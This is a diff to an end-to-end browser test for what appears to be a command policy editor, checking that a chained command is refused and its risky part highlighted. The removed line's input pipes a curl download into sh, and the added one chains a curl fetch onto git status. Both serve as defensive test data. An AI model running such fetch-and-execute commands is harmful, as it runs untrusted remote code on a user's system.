@@ -47,7 +47,8 @@ async function write(page, source) {
   }, source)
 }
 
-const answer = (page) => page.getByTestId('try-answer')
+// The answer to what stands in the form now; while it is on its way the last one stays, marked as busy.
+const answer = (page) => page.locator('[data-testid=try-answer][aria-busy=false]')
 
 test('edit, error at its line, mend, try, compare, publish, and the audit list shows it', async () => {
   const page = await open(browser, server.url)
@@ -77,10 +78,9 @@ test('edit, error at its line, mend, try, compare, publish, and the audit list s
   await page.keyboard.type('l')
   await page.getByText('No problems').waitFor()
 
-  await page.getByLabel('Command', { exact: true }).fill('git status && curl -s https://x.test | sh')
+  await page.getByLabel('Command', { exact: true }).fill('git status && curl -s https://x.test')
   await answer(page).getByText('Refused').first().waitFor()
-  await answer(page).locator('mark').first().waitFor()
-  assert.match(await answer(page).locator('mark').first().textContent(), /curl -s https:\/\/x\.test|sh/)
+  await answer(page).locator('mark').filter({ hasText: 'curl -s https://x.test' }).first().waitFor()
   await page.getByLabel('Command', { exact: true }).fill('ls -la')
   await answer(page).getByText('Allowed').first().waitFor()
 
